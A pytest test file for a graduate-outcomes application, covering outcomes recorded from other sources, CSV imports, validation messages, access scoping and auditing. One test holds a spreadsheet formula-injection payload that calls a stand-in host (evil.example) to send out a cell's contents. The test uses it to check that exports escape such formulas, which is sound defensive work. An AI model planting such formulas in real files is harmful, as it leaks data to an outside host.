"""Outcomes learned from other sources: recorded one at a time or imported from a CSV."""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import dataclass

import pandas as pd
import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from outcomes.access.staff import create_staff_user
from outcomes.analysis.metrics import metrics_from_counts, metrics_panel
from outcomes.config import Settings
from outcomes.errors import AccessDenied, NotFound, ValidationProblem
from outcomes.exports import frame_to_csv
from outcomes.fieldwork.sources import (
    OutcomeRefused,
    Recorder,
    find_graduate,
    list_other_outcomes,
    parse_outcome,
    record_other_outcome,
    staff_recorder,
)
from outcomes.fieldwork.sources_csv import CSV_COLUMNS, import_other_outcomes, template_csv
from outcomes.store.aggregates import metric_counts
from outcomes.store.engine import session_scope
from outcomes.store.frames import analysis_frame
from outcomes.store.tables import (
    AuditEvent,
    Invitation,
    Learner,
    LearnerExternalId,
    Outcome,
    Response,
)
from tests import factories
from tests.conftest import TEST_SECRET_KEY

SETTINGS = Settings(secret_key=TEST_SECRET_KEY, exchange_rates={"USD": 0.5})
AT = dt.datetime(2025, 2, 20, 12, 0, tzinfo=dt.UTC)
ADMIN = Recorder("admin", None, "admin@example.org", "test:admin")


@dataclass(frozen=True)
class Population:
    """Three graduates of one wave: Ana and Bea on DA-101, Luis on UX-201."""

    wave_id: int
    wave: str
    refs: dict[str, str]  # name → learner ref
    invitations: dict[str, int]  # name → invitation id
    manager: int  # a manager scoped to DA-101


def _population(engine: Engine) -> Population:
    with session_scope(engine) as session:
        da = factories.programme(session, "DA-101")
        ux = factories.programme(session, "UX-201")
        wave = factories.wave(session)
        refs, invitations = {}, {}
        for index, (name, programme) in enumerate((("ana", da), ("bea", da), ("luis", ux))):
            who = factories.learner(session, email=f"{name}@example.org")
            enrolment = factories.completed_enrolment(session, who, programme)
            factories.credential(session, enrolment, external_id=f"urn:uuid:{index}")
            invitation = factories.invitation(session, wave, enrolment)
            invitation.sent_at = AT - dt.timedelta(days=30)
            session.add(invitation)
            session.add(
                LearnerExternalId(learner_id=who.id, scheme="student_record", value=f"S-{index}")
            )
            refs[name], invitations[name] = who.ref, invitation.id or 0
        manager = create_staff_user(
            session,
            email="manager@example.org",
            role="manager",
            password=None,
            actor="test",
            programme_codes=["DA-101"],
        )
        return Population(wave.id or 0, wave.name, refs, invitations, manager.id or 0)


@pytest.fixture
def population(engine: Engine) -> Population:
    return _population(engine)


def _outcome(learner: str, wave: int | str, **values: object) -> object:
    base: dict[str, object] = {
        "learner": learner,
        "wave": wave,
        "source": "employer",
        "activity": "employed_full_time",
        "observed_on": dt.date(2025, 2, 1),
    }
    return parse_outcome({**base, **values})


def _record(engine: Engine, outcome: object, recorder: Recorder = ADMIN, **kw: object) -> object:
    with session_scope(engine) as session:
        return record_other_outcome(
            session,
            SETTINGS,
            outcome,  # type: ignore[arg-type]
            recorder=recorder,
            at=AT,
            **kw,  # type: ignore[arg-type]
        )


def _outcomes(engine: Engine) -> list[Outcome]:
    with Session(engine) as session:
        return list(session.exec(select(Outcome).order_by(col(Outcome.id))).all())


def _events(engine: Engine, action: str) -> list[AuditEvent]:
    with Session(engine) as session:
        return list(session.exec(select(AuditEvent).where(AuditEvent.action == action)).all())


# --- recording one ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "by"),
    [("ref", "ref"), ("S-0", "external_id"), ("ANA@example.org", "email"), ("S-0", "any")],
)
def test_an_outcome_is_recorded_for_a_graduate_found_by_each_identifier(
    engine: Engine, population: Population, key: str, by: str
) -> None:
    learner = population.refs["ana"] if key == "ref" else key
    recorded = _record(
        engine,
        _outcome(
            learner,
            population.wave_id,
            learner_by=by,
            hours_per_week=38.0,
            salary=2600.0,
            currency="EUR",
            period="monthly",
            occupation_isco="2",
            industry_isic="j",
            job_related=4,
            note="HR confirmed by e-mail",
        ),
    )
    assert recorded.learner_ref == population.refs["ana"]  # type: ignore[attr-defined]
    [row] = _outcomes(engine)
    with Session(engine) as session:
        invitation = session.get(Invitation, population.invitations["ana"])
        assert invitation is not None
    assert (row.learner_id, row.wave_id, row.enrolment_id) == (
        invitation.learner_id,
        population.wave_id,
        invitation.enrolment_id,
    )
    assert (row.source, row.activity, row.observed_on) == (
        "employer",
        "employed_full_time",
        dt.date(2025, 2, 1),
    )
    assert row.salary_annual == 31_200.0 and row.salary_excluded is False  # 2600 × 12, EUR
    assert (row.occupation_isco, row.industry_isic, row.job_related) == ("2", "J", 4)
    assert row.recorded_by == "admin@example.org" and row.recorded_at == AT
    assert row.note == "HR confirmed by e-mail" and row.response_id is None
    [event] = _events(engine, "outcome.recorded")
    assert event.actor == "test:admin" and event.object_id == str(row.id)
    assert event.detail == {
        "learner_ref": population.refs["ana"],
        "wave_id": population.wave_id,
        "source": "employer",
        "via": "page",
    }
    assert "2600" not in json.dumps(event.detail) and "31200" not in json.dumps(event.detail)


def test_a_salary_is_converted_and_held_to_the_floor_as_survey_answers_are(
    engine: Engine, population: Population
) -> None:
    recorded = _record(
        engine,
        _outcome(
            population.refs["ana"],
            population.wave_id,
            activity="employed_part_time",
            hours_per_week=10.0,
            salary=20.0,
            currency="usd",
            period="hourly",
        ),
    )
    # 20 USD × 10 h × 52 weeks × 0.5 = 5,200 EUR: below the 12,000 floor, kept but excluded.
    assert recorded.salary_annual == 5200.0 and recorded.salary_excluded  # type: ignore[attr-defined]
    assert recorded.salary_note == "below the salary floor of 12,000 EUR"  # type: ignore[attr-defined]


def test_the_wave_can_be_named_instead_of_numbered(engine: Engine, population: Population) -> None:
    _record(
        engine, _outcome("luis@example.org", population.wave, source="phone", activity="military")
    )
    [row] = _outcomes(engine)
    assert (row.source, row.activity, row.wave_id) == ("phone", "military", population.wave_id)


def test_a_manager_records_only_for_graduates_of_their_programmes(
    engine: Engine, population: Population
) -> None:
    with session_scope(engine) as session:
        manager = staff_recorder(session, "manager@example.org")
    assert manager.email == "manager@example.org" and manager.actor == f"staff:{population.manager}"
    _record(engine, _outcome("ana@example.org", population.wave_id), manager)
    # A graduate of another programme is not found, exactly as one who does not exist: the
    # manager learns nothing about other programmes' graduates.
    unknown = r"^No graduate has that learner ref, external id or e-mail address\.$"
    with pytest.raises(NotFound, match=unknown):
        _record(engine, _outcome("luis@example.org", population.wave_id), manager)
    with session_scope(engine) as session, pytest.raises(NotFound, match=unknown):
        find_graduate(session, "luis@example.org", recorder=manager)
    with session_scope(engine) as session, pytest.raises(NotFound, match=unknown):
        find_graduate(session, "nobody@example.org", recorder=manager)
    with session_scope(engine) as session:
        listed = list_other_outcomes(session, recorder=manager)
        found = find_graduate(session, "ana@example.org", recorder=manager)
    assert list(listed["learner_ref"]) == [population.refs["ana"]]
    assert [w.outcome_source for w in found.waves] == ["employer"]
    assert len(_outcomes(engine)) == 1


def test_a_reviewer_records_nothing(engine: Engine, population: Population) -> None:
    reviewer = Recorder("reviewer", 99, "reviewer@example.org", "staff:99")
    with pytest.raises(AccessDenied, match="for administrators and managers"):
        _record(engine, _outcome("ana@example.org", population.wave_id), reviewer)


def test_a_survey_outcome_is_never_overwritten(engine: Engine, population: Population) -> None:
    with session_scope(engine) as session:
        invitation = session.get(Invitation, population.invitations["ana"])
        assert invitation is not None
        response = Response(
            invitation_id=invitation.id,
            instrument_version_id=1,
            answers={},
            status="complete",
        )
        session.add(response)
        session.flush()
        session.add(
            Outcome(
                learner_id=invitation.learner_id,
                enrolment_id=invitation.enrolment_id,
                wave_id=invitation.wave_id,
                response_id=response.id,
                source="survey",
                observed_on=dt.date(2025, 1, 15),
                activity="seeking_employment",
            )
        )
    for replace in (False, True):
        with pytest.raises(OutcomeRefused) as refused:
            _record(engine, _outcome("ana@example.org", population.wave_id), replace=replace)
        assert str(refused.value) == (
            f"The graduate answered the survey of wave '{population.wave}' themselves; their "
            "own answer is never overwritten by another source."
        )
    [row] = _outcomes(engine)
    assert (row.source, row.activity) == ("survey", "seeking_employment")


def test_re_recording_replaces_only_when_asked_and_the_audit_keeps_before_and_after(
    engine: Engine, population: Population
) -> None:
    _record(engine, _outcome("ana@example.org", population.wave_id, note="first"))
    with pytest.raises(OutcomeRefused, match=r"already recorded .* replace it explicitly"):
        _record(engine, _outcome("ana@example.org", population.wave_id, source="phone"))
    replaced = _record(
        engine,
        _outcome(
            "ana@example.org",
            population.wave_id,
            source="phone",
            activity="continuing_education",
            observed_on=dt.date(2025, 2, 10),
        ),
        replace=True,
    )
    assert replaced.replaced == "employer"  # type: ignore[attr-defined]
    [row] = _outcomes(engine)
    assert (row.source, row.activity, row.note) == ("phone", "continuing_education", None)
    [event] = _events(engine, "outcome.replaced")
    assert event.detail is not None
    assert event.detail["before"] == {
        "source": "employer",
        "activity": "employed_full_time",
        "observed_on": "2025-02-01",
    }
    assert event.detail["after"] == {
        "source": "phone",
        "activity": "continuing_education",
        "observed_on": "2025-02-10",
    }


def test_a_graduate_without_an_invitation_in_the_wave_is_refused_in_one_sentence(
    engine: Engine, population: Population
) -> None:
    with session_scope(engine) as session:
        factories.learner(session, email="zoe@example.org")
        other = factories.wave(session, name="2024 cohort — 12 months")
        other_id = other.id
    with pytest.raises(NotFound) as missing:
        _record(engine, _outcome("ana@example.org", other_id))
    assert str(missing.value) == (
        "That graduate has no invitation in the wave '2024 cohort — 12 months': record "
        "outcomes only for a wave's population."
    )
    with pytest.raises(NotFound, match=r"^No graduate has that e-mail address\.$"):
        _record(engine, _outcome("nobody@example.org", population.wave_id, learner_by="email"))
    with pytest.raises(NotFound, match=r"^There is no survey wave with id 999\.$"):
        _record(engine, _outcome("ana@example.org", 999))


def test_every_invalid_field_gets_one_plain_sentence() -> None:
    with pytest.raises(OutcomeRefused) as refused:
        parse_outcome(
            {
                "learner": "ana@example.org",
                "wave": 1,
                "source": "survey",
                "activity": "astronaut",
                "hours_per_week": 200.0,
                "currency": "EURO",
                "period": "daily",
                "occupation_isco": "12",
                "industry_isic": "Z",
                "job_related": 9,
                "note": "x" * 2001,
                "salary_annual": 1.0,
            }
        )
    messages = {p.field: p.message for p in refused.value.problems}
    assert messages == {
        "source": "The source 'survey' is not one of staff_verified, employer, public_profile, "
        "phone (survey outcomes come only from the survey).",
        "activity": "The activity 'astronaut' is not one of employed_full_time, "
        "employed_part_time, self_employed, internship, voluntary, military, "
        "continuing_education, seeking_employment, seeking_study, not_seeking.",
        "hours_per_week": "Hours per week must be more than 0 and at most 168, not 200.",
        "currency": "The currency 'EURO' is not a three-letter ISO 4217 code.",
        "period": "The pay period 'daily' is not one of hourly, weekly, monthly, annual.",
        "occupation_isco": "The occupation '12' is not an ISCO-08 major group (a digit 0 to 9).",
        "industry_isic": "The industry 'Z' is not an ISIC Rev.4 section (a letter A to U).",
        "job_related": "Job relatedness must be a whole number from 1 to 5, not 9.",
        "note": "The note is 2,001 characters long; at most 2,000.",
        "salary_annual": "'salary_annual' is not a field of an outcome.",
    }
    with pytest.raises(OutcomeRefused) as typed:
        parse_outcome(
            {
                "learner": "a",
                "wave": 1,
                "source": "phone",
                "activity": "military",
                "hours_per_week": "forty",
            }
        )
    assert [p.message for p in typed.value.problems] == ["Hours per week must be a number."]


def test_rules_that_need_the_records_or_the_settings_are_sentences_too(
    engine: Engine, population: Population
) -> None:
    cases = {
        "The date observed, 2025-02-21, is in the future.": {"observed_on": dt.date(2025, 2, 21)},
        "The date observed, 2024-06-01, is before the award on 2024-07-01.": {
            "observed_on": dt.date(2024, 6, 1)
        },
        "The salary applies only to work, not to seeking_employment.": {
            "activity": "seeking_employment",
            "salary": 100.0,
            "currency": "EUR",
            "period": "annual",
        },
        "A salary needs a pay period too.": {"salary": 30000.0, "currency": "EUR"},
        "The currency is given without a salary.": {"currency": "EUR"},
        "There is no exchange rate from GBP to EUR: set OUTCOMES_EXCHANGE_RATES, or give the "
        "salary in EUR.": {"salary": 30000.0, "currency": "GBP", "period": "annual"},
        "An hourly salary needs the hours per week too.": {
            "salary": 20.0,
            "currency": "EUR",
            "period": "hourly",
        },
        "20 hours per week is below the full-time threshold of 30: choose employed_part_time, "
        "or correct the hours.": {"hours_per_week": 20.0},
        "The activity 'unknown' records nothing: give what was learned.": {"activity": "unknown"},
    }
    for sentence, values in cases.items():
        with pytest.raises(OutcomeRefused) as refused:
            _record(engine, _outcome("ana@example.org", population.wave_id, **values))
        assert str(refused.value) == sentence
    assert _outcomes(engine) == []


# --- the analysis: source carried, known but not responded ------------------------------------


def test_the_analysis_carries_the_source_and_the_knowledge_rate_counts_it(
    engine: Engine, population: Population
) -> None:
    _record(engine, _outcome("ana@example.org", population.wave_id, source="employer"))
    _record(
        engine,
        _outcome(
            "bea@example.org", population.wave_id, source="public_profile", activity="voluntary"
        ),
    )
    with Session(engine) as session:
        frame = analysis_frame(session=session)
        counts = metric_counts(session=session, group_by=(), fulltime_hours=30.0)
    by_ref = frame.set_index("learner_id")
    with Session(engine) as session:
        ids = {
            name: session.exec(select(Learner.id).where(Learner.ref == ref)).one()
            for name, ref in population.refs.items()
        }
    assert by_ref.loc[ids["ana"], "source"] == "employer"
    assert by_ref.loc[ids["bea"], "source"] == "public_profile"
    assert pd.isna(by_ref.loc[ids["luis"], "source"])
    assert list(by_ref.loc[[ids["ana"], ids["bea"]], "known"]) == [True, True]
    assert not by_ref["responded"].any()
    panel = metrics_panel(frame)
    # Known from another source: 2 of 3 graduates known, none of the 3 invited responded.
    knowledge, response = panel.get("knowledge_rate"), panel.get("response_rate")
    assert (knowledge.numerator, knowledge.denominator) == (2, 3)
    assert (response.numerator, response.denominator) == (0, 3)
    # The same through the analysis table, counted in the database.
    assert counts.loc[0, "known"] == 2 and counts.loc[0, "responded"] == 0
    from_table = metrics_from_counts(counts, ())
    assert from_table.get("knowledge_rate").estimate == pytest.approx(2 / 3)
    assert from_table.get("response_rate").estimate == 0.0


# --- the CSV import ---------------------------------------------------------------------------


def _csv(*rows: str, header: str = ",".join(CSV_COLUMNS)) -> str:
    return "\n".join([header, *rows]) + "\n"


def _import(engine: Engine, data: bytes | str, recorder: Recorder = ADMIN, **kw: object) -> object:
    with session_scope(engine) as session:
        return import_other_outcomes(
            session,
            SETTINGS,
            data,
            recorder=recorder,
            at=AT,
            **kw,  # type: ignore[arg-type]
        )


def test_the_template_is_a_header_and_one_example_row() -> None:
    header, example, end = template_csv().split("\n")
    assert header.split(",") == list(CSV_COLUMNS) and end == ""
    assert "employer" in example and "monthly" in example


def test_a_csv_with_a_bom_is_imported_whole_and_audited(
    engine: Engine, population: Population
) -> None:
    data = _csv(
        f"{population.refs['ana']},,,{population.wave_id},employer,2025-02-01,"
        "employed_full_time,38,2600,EUR,monthly,2,J,4,HR confirmed",
        f",S-1,,{population.wave},phone,,voluntary,,,,,,,,called her",
        ",,luis@example.org,1,staff_verified,2025-01-05,continuing_education,,,,,,,,",
    ).encode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    report = _import(engine, data)
    assert report.accepted and report.summary() == "3 outcomes recorded."  # type: ignore[attr-defined]
    rows = _outcomes(engine)
    assert [(r.source, r.activity) for r in rows] == [
        ("employer", "employed_full_time"),
        ("phone", "voluntary"),
        ("staff_verified", "continuing_education"),
    ]
    assert rows[1].observed_on == AT.date()  # empty observed_on: the day of the import
    assert len(_events(engine, "outcome.recorded")) == 3
    [summary] = _events(engine, "sources.imported")
    assert summary.detail == {"rows": 3, "written": 3, "replaced": 0}


def test_one_bad_row_in_the_middle_and_nothing_is_written(
    engine: Engine, population: Population
) -> None:
    good = f",,ana@example.org,{population.wave_id},employer,2025-02-01,military,,,,,,,,"
    bad = f",,bea@example.org,{population.wave_id},gossip,2025-13-01,employed_full_time,many,,,,,,,"
    also_good = f",,luis@example.org,{population.wave_id},phone,,voluntary,,,,,,,,"
    report = _import(engine, _csv(good, bad, also_good, ",,nobody@example.org,1,phone,,military"))
    assert not report.accepted  # type: ignore[attr-defined]
    assert [(r.row, r.column, r.message) for r in report.rejects] == [  # type: ignore[attr-defined]
        (3, "observed_on", "observed_on '2025-13-01' is not a date (YYYY-MM-DD)."),
        (3, "hours", "hours 'many' is not a number (with a point for decimals)."),
        (
            3,
            "source",
            "The source 'gossip' is not one of staff_verified, employer, public_profile, "
            "phone (survey outcomes come only from the survey).",
        ),
        (5, "email", "No graduate has that e-mail address."),
    ]
    assert report.summary() == "2 of 4 rows rejected (4 problems): nothing was written."  # type: ignore[attr-defined]
    assert _outcomes(engine) == [] and _events(engine, "outcome.recorded") == []
    assert b"row" in report.rejects_csv()  # type: ignore[attr-defined]


def test_a_dry_run_checks_everything_and_writes_nothing(
    engine: Engine, population: Population
) -> None:
    data = _csv(f",,ana@example.org,{population.wave_id},employer,2025-02-01,military,,,,,,,,")
    report = _import(engine, data, dry_run=True)
    assert report.accepted and report.written == ()  # type: ignore[attr-defined]
    assert report.summary() == "All 1 rows are valid; nothing was written (dry run)."  # type: ignore[attr-defined]
    assert _outcomes(engine) == [] and _events(engine, "sources.imported") == []


def test_rows_naming_the_same_graduate_twice_or_out_of_scope_are_rejected(
    engine: Engine, population: Population
) -> None:
    with session_scope(engine) as session:
        manager = staff_recorder(session, "manager@example.org")
    data = _csv(
        f",,ana@example.org,{population.wave_id},employer,,military,,,,,,,,",
        f"{population.refs['ana']},,,{population.wave_id},phone,,military,,,,,,,,",
        f",,luis@example.org,{population.wave_id},phone,,military,,,,,,,,",
        f",S-1,bea@example.org,{population.wave_id},phone,,military,,,,,,,,",
        f",,,{population.wave_id},phone,,,,,,,,,,",
    )
    report = _import(engine, data, manager)
    assert [(r.row, r.column, r.message) for r in report.rejects] == [  # type: ignore[attr-defined]
        (3, "learner_ref", "This graduate and wave are already in row 2."),
        (4, "email", "No graduate has that e-mail address."),
        (
            5,
            "email",
            "Give only one of learner_ref, external_id and email (this row has external_id, "
            "email).",
        ),
        (6, "learner_ref", "Give the graduate's learner_ref, external_id or email."),
        (6, "activity", "The activity is required."),
    ]
    assert _outcomes(engine) == []


def test_a_file_that_is_not_the_format_is_one_sentence(
    engine: Engine, population: Population
) -> None:
    cases = {
        b"\xff\xfel\x00": "The file is not UTF-8 text (byte 1 is not): save it as CSV UTF-8 "
        "and try again.",
        b"": "The file is empty: it needs a header row.",
        b"email,wave,source,activity,salary_annual\n": "Unknown column 'salary_annual': the "
        "columns are " + ", ".join(CSV_COLUMNS) + ".",
        b"email,wave,source\n": "The file has no activity column.",
        b"wave,source,activity\n1,phone,military\n": "The file needs a learner_ref, external_id "
        "or email column to find each graduate.",
        b"email,wave,source,activity\n": "The file has a header but no rows.",
    }
    for data, sentence in cases.items():
        with pytest.raises(ValidationProblem) as refused:
            _import(engine, data)
        assert str(refused.value) == sentence


def test_semicolons_and_a_partial_header_are_read(engine: Engine, population: Population) -> None:
    data = (
        f"Email;Wave;Source;Activity;Note\nana@example.org;{population.wave_id};phone;military;ok\n"
    )
    assert _import(engine, data).accepted  # type: ignore[attr-defined]
    [row] = _outcomes(engine)
    assert (row.source, row.note) == ("phone", "ok")


def test_formula_text_is_stored_as_text_and_never_exported_as_a_formula(
    engine: Engine, population: Population
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = '"' + hostile.replace('"', '""') + '"'
    data = _csv(
        f",,ana@example.org,{population.wave_id},employer,,military,,,,,,,,{quoted}",
        f",,bea@example.org,{population.wave_id},phone,,military,,,,,,,,@SUM(1+1)",
    )
    assert _import(engine, data).accepted  # type: ignore[attr-defined]
    assert [r.note for r in _outcomes(engine)] == [hostile, "@SUM(1+1)"]
    with Session(engine) as session:
        frame = list_other_outcomes(session, recorder=ADMIN)
    exported = frame_to_csv(frame).decode("utf-8")
    assert "\"'=HYPERLINK(" in exported and '"\'@SUM(1+1)"' in exported
    assert ',"=' not in exported and ',"@' not in exported


def test_an_import_replaces_other_sources_only_when_asked(
    engine: Engine, population: Population
) -> None:
    _record(engine, _outcome("ana@example.org", population.wave_id))
    data = _csv(f",,ana@example.org,{population.wave_id},phone,,military,,,,,,,,")
    assert not _import(engine, data).accepted  # type: ignore[attr-defined]
    report = _import(engine, data, replace=True)
    assert report.summary() == "1 outcomes recorded, 1 of them replacing an earlier one."  # type: ignore[attr-defined]
    [row] = _outcomes(engine)
    assert row.source == "phone"
    assert len(_events(engine, "outcome.replaced")) == 1


def test_the_list_names_no_graduate_and_is_filtered_by_wave(
    engine: Engine, population: Population
) -> None:
    _record(engine, _outcome("ana@example.org", population.wave_id))
    with Session(engine) as session:
        frame = list_other_outcomes(session, recorder=ADMIN, wave=str(population.wave_id))
        with_staff = list_other_outcomes(session, recorder=ADMIN, with_recorder=True)
        with pytest.raises(NotFound):
            list_other_outcomes(session, recorder=ADMIN, wave="no such wave")
    text = frame.to_json(date_format="iso")
    assert "ana@example.org" not in text and "Ana" not in text and "recorded_by" not in frame
    assert list(with_staff["recorded_by"]) == ["admin@example.org"]


def test_a_survey_submitted_later_replaces_an_other_source_outcome(engine: Engine) -> None:
    from outcomes.fieldwork import survey
    from tests.integration.test_survey_routes import COURSE, EMPLOYED_JOB, VOICE

    with session_scope(engine) as session:
        invitation_id, _ = factories.open_survey(session, SETTINGS, at=AT)
    _record(engine, _outcome("ana@example.org", "follow-up-6m wave", note="LinkedIn"))
    with session_scope(engine) as session:
        survey.consent(session, invitation_id, AT)
        for section, answers in (
            ("activity", {"activity": "employed"}),
            ("job", EMPLOYED_JOB),
            ("voice", VOICE),
            ("course", COURSE),
        ):
            form = {key: [value] for key, value in answers.items()}
            survey.save_section(session, SETTINGS, invitation_id, section, form, AT)
        assert survey.submit(session, SETTINGS, invitation_id, AT).status == "submitted"
    [row] = _outcomes(engine)
    assert (row.source, row.salary_annual) == ("survey", 28_800)
    assert (row.recorded_by, row.recorded_at, row.note) == (None, None, None)


def test_erasing_a_learner_removes_the_note_staff_wrote_and_coarsens_its_times(
    engine: Engine, population: Population
) -> None:
    from outcomes.privacy.rights import erase_learner

    _record(engine, _outcome("ana@example.org", population.wave_id, note="Ana at Acme, per HR"))
    with session_scope(engine) as session:
        learner_id = session.exec(
            select(Learner.id).where(Learner.ref == population.refs["ana"])
        ).one()
        erase_learner(
            session, learner_id=learner_id or 0, actor="test", settings=SETTINGS, mode="anonymise"
        )
    [row] = _outcomes(engine)
    assert row.note is None and row.source == "employer" and row.activity == "employed_full_time"
    assert row.observed_on == dt.date(2025, 2, 1)
    assert row.recorded_at == dt.datetime(2025, 2, 1, tzinfo=dt.UTC)


def test_a_record_that_waited_for_a_survey_submit_sees_the_answer_and_refuses(
    engine: Engine, population: Population
) -> None:
    if engine.dialect.name != "postgresql":
        pytest.skip("SQLite has one writer at a time (BEGIN IMMEDIATE): there is no race")
    import threading

    outcome = _outcome("ana@example.org", population.wave_id)
    errors: list[BaseException] = []
    with session_scope(engine) as submitting:
        # As a survey submit does: lock the invitation, write the graduate's own outcome.
        invitation = submitting.exec(
            select(Invitation)
            .where(Invitation.id == population.invitations["ana"])
            .with_for_update()
        ).one()
        submitting.add(
            Outcome(
                learner_id=invitation.learner_id,
                enrolment_id=invitation.enrolment_id,
                wave_id=invitation.wave_id,
                source="survey",
                observed_on=AT.date(),
                activity="seeking_employment",
            )
        )
        submitting.flush()

        def record() -> None:
            try:
                _record(engine, outcome)
            except BaseException as exc:  # handed to the test thread
                errors.append(exc)

        staff = threading.Thread(target=record)
        staff.start()
        staff.join(timeout=1.0)
        assert staff.is_alive(), "the record did not wait for the invitation's lock"
    staff.join(timeout=30)
    [error] = errors
    assert isinstance(error, OutcomeRefused) and "never overwritten" in str(error)
    assert [r.source for r in _outcomes(engine)] == ["survey"]
